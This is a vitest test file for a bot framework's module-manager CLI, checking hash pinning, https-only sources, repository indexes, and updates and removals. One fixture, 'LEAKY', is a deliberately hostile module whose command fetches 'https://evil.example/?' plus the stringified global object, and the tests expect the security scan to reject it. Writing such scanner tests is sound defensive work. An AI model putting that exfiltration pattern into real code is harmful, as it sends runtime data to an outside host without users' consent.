import { createHash } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { childProcess, fs, nodeBinary, path, root, tempDir } from "./node";

// The deploy-time module manager (scripts/modules-cli.mjs), run as `npm run modules` runs it:
// a child process, against a local file server, with --dir/--lock in a temporary folder.
const CLI = path.join(root, "scripts/modules-cli.mjs");

const weather = (
  version: string,
  greeting: string,
) => `import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "Weather",
  version: "${version}",
  description: "Current weather",
  commands: {
    weather: {
      security: EVERYONE,
      usage: "<city>",
      async run(ctx) {
        await ctx.respond(\`${greeting} \${ctx.args.trim() || "nowhere"}\`);
      },
    },
  },
});
`;
const WEATHER_1 = weather("1.2.0", "Sunny in");
const WEATHER_2 = weather("1.3.0", "Rainy in");
const GREETER = `import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "Greeter",
  version: "0.1.0",
  commands: {
    greet: {
      security: EVERYONE,
      async run(ctx) {
        await ctx.respond("hello");
      },
    },
  },
});
`;
const LEAKY = `import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "Leaky",
  commands: {
    leak: {
      security: EVERYONE,
      async run(ctx) {
        const answer = await fetch("https://evil.example/?" + String(globalThis));
        await ctx.respond(await answer.text());
      },
    },
  },
});
`;

const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

/** What the file server answers, by path; tests change it between runs. */
const files = new Map<string, { body: string; status?: number; location?: string }>();
let server: Server;
let base = "";

beforeAll(async () => {
  server = createServer((request, response) => {
    const file = files.get(request.url ?? "");
    if (!file) {
      response.writeHead(404).end("not found");
      return;
    }
    const headers: Record<string, string> = { "content-type": "text/plain; charset=utf-8" };
    if (file.location) headers.location = file.location;
    response.writeHead(file.status ?? 200, headers).end(file.body);
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((done) => server.close(() => done())));

let dir = "";
const dirs: string[] = [];
beforeEach(() => {
  dir = tempDir();
  dirs.push(dir);
  files.clear();
});
afterAll(() => {
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
  output: string;
}

/**
 * Runs the CLI without blocking: the file server answering it lives in this process.
 * `loopback: false` leaves ALLOW_LOOPBACK_SOURCES out.
 */
function cli(args: string[], { loopback = true } = {}): Promise<Run> {
  const env = { ...process.env };
  delete env.ALLOW_LOOPBACK_SOURCES;
  if (loopback) env.ALLOW_LOOPBACK_SOURCES = "true";
  const child = childProcess.spawn(
    nodeBinary,
    [CLI, ...args, "--dir", path.join(dir, "modules"), "--lock", lockPath()],
    { cwd: root, env },
  );
  let stdout = "";
  let stderr = "";
  child.stdout.on("data", (chunk: Buffer) => {
    stdout += chunk.toString();
  });
  child.stderr.on("data", (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  return new Promise((done) =>
    child.on("close", (status) => done({ status, stdout, stderr, output: stdout + stderr })),
  );
}

const lockPath = () => path.join(dir, "modules.lock.json");
const moduleFile = (name: string) => path.join(dir, "modules", name);
function lock(): {
  repositories: string[];
  modules: Record<string, { url: string; sha256: string; file: string; version?: string }>;
} {
  return JSON.parse(fs.readFileSync(lockPath(), "utf8"));
}
const modulesWritten = () =>
  fs.existsSync(path.join(dir, "modules")) ? fs.readdirSync(path.join(dir, "modules")) : [];

describe("npm run modules", () => {
  it("answers a wrong command line with the usage and exit 2", async () => {
    for (const args of [[], ["fly"], ["add"], ["add", "a", "b"], ["add", "X", "--sha256", "zz"]]) {
      const result = await cli(args);
      expect(result.status, args.join(" ")).toBe(2);
      expect(result.stderr).toContain("usage: npm run modules");
    }
  });

  it("adds a module by URL (through a redirect): the file as served, pinned by its SHA-256", async () => {
    files.set("/weather.ts", { body: WEATHER_1 });
    files.set("/latest/weather.ts", { body: "", status: 302, location: "/weather.ts" });
    const url = `${base}/latest/weather.ts`;
    const result = await cli(["add", url]);
    expect(result.status, result.output).toBe(0);
    expect(fs.readFileSync(moduleFile("weather.ts"), "utf8")).toBe(WEATHER_1);
    expect(lock()).toEqual({
      repositories: [],
      modules: {
        Weather: { url, sha256: sha256(WEATHER_1), file: "modules/weather.ts", version: "1.2.0" },
      },
    });
    expect(result.stdout).toContain(sha256(WEATHER_1));
    expect(result.stdout).toMatch(/wrangler deploy/);

    // The same name again is refused, with the way to update it.
    const again = await cli(["add", url]);
    expect(again.status).toBe(1);
    expect(again.stderr).toContain("npm run modules -- update Weather");
  });

  it("refuses a module the scan refuses and writes nothing", async () => {
    files.set("/leaky.ts", { body: LEAKY });
    const result = await cli(["add", `${base}/leaky.ts`]);
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/network/);
    expect(result.stderr).toMatch(/global-object/);
    expect(result.stderr).toMatch(/leaky\.ts:\d+:\d+/);
    expect(modulesWritten()).toEqual([]);
    expect(fs.existsSync(lockPath())).toBe(false);
  });

  it("refuses content whose hash is not the --sha256 given", async () => {
    files.set("/weather.ts", { body: WEATHER_1 });
    const result = await cli(["add", `${base}/weather.ts`, "--sha256", sha256(WEATHER_2)]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(sha256(WEATHER_1));
    expect(modulesWritten()).toEqual([]);
  });

  it("accepts only https URLs unless ALLOW_LOOPBACK_SOURCES=true", async () => {
    files.set("/weather.ts", { body: WEATHER_1 });
    const result = await cli(["add", `${base}/weather.ts`], { loopback: false });
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/only https URLs/);
    const credentials = await cli(["add", "https://user:pw@example.org/weather.ts"]);
    expect(credentials.status).toBe(1);
    expect(credentials.stderr).toMatch(/credentials/);
    expect(modulesWritten()).toEqual([]);
  });

  it("adds by name from a repository when the hash matches, and refuses it when not", async () => {
    files.set("/mods/greeter.ts", { body: GREETER });
    files.set("/mods/weather.ts", { body: WEATHER_1 });
    files.set("/index.json", {
      body: JSON.stringify({
        modules: [
          { name: "Greeter", version: "0.1.0", url: "mods/greeter.ts", sha256: sha256(GREETER) },
          // Listed with the hash of another file: refused.
          { name: "Weather", version: "1.3.0", url: "mods/weather.ts", sha256: sha256(WEATHER_2) },
        ],
      }),
    });
    const repo = await cli(["repo", "add", `${base}/index.json`]);
    expect(repo.status, repo.output).toBe(0);
    expect(lock().repositories).toEqual([`${base}/index.json`]);

    const added = await cli(["add", "greeter"]);
    expect(added.status, added.output).toBe(0);
    expect(fs.readFileSync(moduleFile("greeter.ts"), "utf8")).toBe(GREETER);
    expect(lock().modules.Greeter).toMatchObject({
      url: `${base}/mods/greeter.ts`,
      sha256: sha256(GREETER),
      file: "modules/greeter.ts",
      version: "0.1.0",
      repository: `${base}/index.json`,
    });

    const wrong = await cli(["add", "Weather"]);
    expect(wrong.status).toBe(1);
    expect(wrong.stderr).toContain(sha256(WEATHER_1));
    expect(modulesWritten()).toEqual(["greeter.ts"]);
    expect(Object.keys(lock().modules)).toEqual(["Greeter"]);
  });

  it("updates: up to date when unchanged; a changed file is scanned, written and pinned", async () => {
    files.set("/weather.ts", { body: WEATHER_1 });
    expect((await cli(["add", `${base}/weather.ts`])).status).toBe(0);

    const same = await cli(["update"]);
    expect(same.status, same.output).toBe(0);
    expect(same.stdout).toContain("Weather: up to date");

    files.set("/weather.ts", { body: WEATHER_2 });
    const changed = await cli(["update", "weather"]);
    expect(changed.status, changed.output).toBe(0);
    expect(changed.stdout).toContain(`${sha256(WEATHER_1)}\n       → ${sha256(WEATHER_2)}`);
    expect(changed.stdout).toMatch(/wrangler deploy/);
    expect(fs.readFileSync(moduleFile("weather.ts"), "utf8")).toBe(WEATHER_2);
    expect(lock().modules.Weather).toMatchObject({ sha256: sha256(WEATHER_2), version: "1.3.0" });

    // A new version the scan refuses leaves the old file and pin.
    files.set("/weather.ts", { body: LEAKY.replace('"Leaky"', '"Weather"') });
    const refused = await cli(["update", "Weather"]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toMatch(/network/);
    expect(fs.readFileSync(moduleFile("weather.ts"), "utf8")).toBe(WEATHER_2);
    expect(lock().modules.Weather?.sha256).toBe(sha256(WEATHER_2));
  });

  it("removes a module: its file and its pin", async () => {
    files.set("/weather.ts", { body: WEATHER_1 });
    expect((await cli(["add", `${base}/weather.ts`])).status).toBe(0);
    const removed = await cli(["remove", "Weather"]);
    expect(removed.status, removed.output).toBe(0);
    expect(removed.stdout).toMatch(/wrangler deploy/);
    expect(modulesWritten()).toEqual([]);
    expect(lock().modules).toEqual({});
    expect((await cli(["remove", "Weather"])).status).toBe(1);
  });
});
